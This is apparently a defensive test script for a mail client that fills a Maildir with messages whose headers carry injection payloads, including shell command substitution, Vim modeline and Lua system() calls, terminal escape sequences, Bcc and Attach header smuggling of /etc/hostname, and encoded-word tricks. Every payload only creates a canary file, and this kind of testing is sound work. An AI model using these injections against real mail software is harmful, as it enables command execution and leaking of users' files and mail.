"""Writes mails with hostile headers into a Maildir (argument: the home), each a question to me: five of every class,
and in each of them From, Reply-To, Cc, Subject, References and Message-ID are hostile.

Every payload that would be run leaves a file named canary-*. SPDX-License-Identifier: GPL-3.0-or-later
"""
import base64
import sys

home = sys.argv[1]
commands = [
    '%{{system("touch {c}")}}', '%{{%v:lua.os.execute("touch {c}")%}}', '%!system("touch {c}")', '`touch {c}`',
    '$(touch {c})', '| !touch {c}', '"; touch {c}; "', "'; touch {c}; '", '#(touch {c})', '#{{l:#(touch {c})}}',
    '<Cmd>!touch {c}<CR>', '\x1b:!touch {c}\r', '\x16\x1b:!touch {c}\r\n', 'vim: set modeline fdm=expr fde=system("touch\\ {c}"):',
    '%n%F{{red}}%{{$(touch {c})%}}', '\\nBcc: victim@evil.example', '\nBcc: victim@evil.example', '\r\nBcc: victim@evil.example\r\nX-Evil: 1',
    '\r\n\r\nAttach: /etc/hostname', '\nAttach: /etc/hostname\nFcc: {c}', '\x1b[31mred\x1b]0;title\x07', '\x9b31m\x90q\x9c', '\u202egpj.exe\u202c',
    '\u200b\u200e\u2066hidden\u2069', '\ufeff\u00ad\u2028two\u2029lines', '|touch {c}|%', '+!touch\\ {c}', '%0A%0Dtouch {c}', '=cmd|touch {c}!A1',
    '\x00nul\x00', '\t\t tabs\v\f', '田' * 400, 'e\u0301' * 300, '\U0001f468\u200d\U0001f469\u200d\U0001f467' * 50, '%' * 500, '\\' * 99, '{{{{first_name}}}} ${{1:x}}',
    '<b>&lt;&amp;"', '#[fg=red]#{{pane_pid}}', '\\e[0m\\033[2J', '[[day]] [[', '\nPgp: SE12345678', '\nX-Mutt-Fcc: {c}\nX-Mutt-PGP: S',
    'Mallory, Malice', 'group: victim@evil.example;', 'M <victim@evil.example>,', '"M" (victim@evil.example)', '=?utf-8?q?=0ABcc:_victim@evil.example?=',
    '=?utf-8?b?CkF0dGFjaDogL2V0Yy9ob3N0bmFtZQ==?=', 'long ' * 2000,
]


def word(text):
    """An encoded word (RFC 2047): what arrives is exactly this text."""
    return '=?utf-8?B?' + base64.b64encode(text.encode('utf-8', 'surrogatepass')).decode() + '?='


for number in range(5 * len(commands)):
    text = commands[number % len(commands)].format(c=f'{home}/canary-{number}')
    kind = number // len(commands)
    subject = ['Lunch {}', '{}', 'Re: {} interview', '{} {}', 'x{}'][kind].replace('{}', text)
    name = text if kind % 2 else f'Mallory {number}'
    # the id is hostile, too, as far as RFC 5322 lets it
    identifier = f"h{number}$(touch{number})`x`%{{x}}|!#'@evil.example"
    with open(f'{home}/mail/cur/hostile{number}:2,S', 'w', encoding='utf-8', newline='\n') as file:
        file.write(
            f'From: {word(name)} <mallory{number}@evil{number}.example>\nTo: Robin Hale <robin@hale.example>\n'
            f'Reply-To: {word(text)} <mallory{number}@evil{number}.example>\nCc: {word(text)} <bo{number}@friend.example>\n'
            f'References: <r{number}@evil.example> {word(text.replace("<", f"<{number}"))}\n'  # an id of two mails would join them
            f'Subject: {word(subject)}\nMessage-ID: <{identifier}>\nDate: Mon, 09 Mar 2026 10:00:00 +0100\n'
            'Received: from mx.evil.example by hale.example with ESMTP; Mon, 09 Mar 2026 10:00:02 +0100\n'
            'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\nHello Robin,\n\n'
            f'could you send me the papers by Wednesday?\n\n{word(text)}\n'
        )
